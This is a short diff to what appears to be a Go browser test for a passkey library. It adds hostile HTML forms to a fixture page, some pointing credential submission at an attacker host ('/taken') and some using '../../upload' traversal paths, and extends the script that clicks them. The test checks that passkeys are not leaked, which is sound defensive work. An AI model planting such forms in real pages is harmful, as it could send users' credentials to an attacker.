@@ -127,6 +127,8 @@ func (h *hostilePage) known(reader *webauthn.Credential) []string {
 		`<form data-latchkey-passkey-add="../../upload#"><button>x</button></form>`,
 		`<form data-latchkey-passkey="passkey" action="` + h.evil + `/taken"><button>x</button></form>`,
 		`<form data-latchkey-passkey="passkey" method="get" target="_blank" action="//` + strings.TrimPrefix(h.evil, "http://") + `"><button>x</button></form>`,
+		`<form data-latchkey-passkey-factor="passkey" action="` + h.evil + `/taken?a=b"><button>x</button></form>`,
+		`<form data-latchkey-passkey-factor="passkey" data-latchkey-passkey-for="../../upload" action="//"><button>x</button></form>`,
 		`<p data-latchkey-passkey-unknown></p>`,
 		`<p data-latchkey-passkeys="` + html.EscapeString(values[len(values)-2]) + `"></p>`,
 		`<p data-latchkey-passkeys="` + html.EscapeString(values[len(values)-1]) + `"></p>`,
@@ -140,7 +142,7 @@ func (k *keyholder) reads() {
 	k.open("/comments")
 	k.becomes(`document.readyState === "complete"`)
 	ask[any](k.tab, `(async () => {
-  for (const form of document.querySelectorAll("form[data-latchkey-passkey], form[data-latchkey-passkey-add]")) Element.prototype.querySelector.call(form, "button").click()
+  for (const form of document.querySelectorAll("form[data-latchkey-passkey], form[data-latchkey-passkey-add], form[data-latchkey-passkey-factor]")) Element.prototype.querySelector.call(form, "button").click()
   for (let i = 0; i < 20; i++) await (await fetch("/auth/session")).text()
   window.settled = true
 })(), null`)
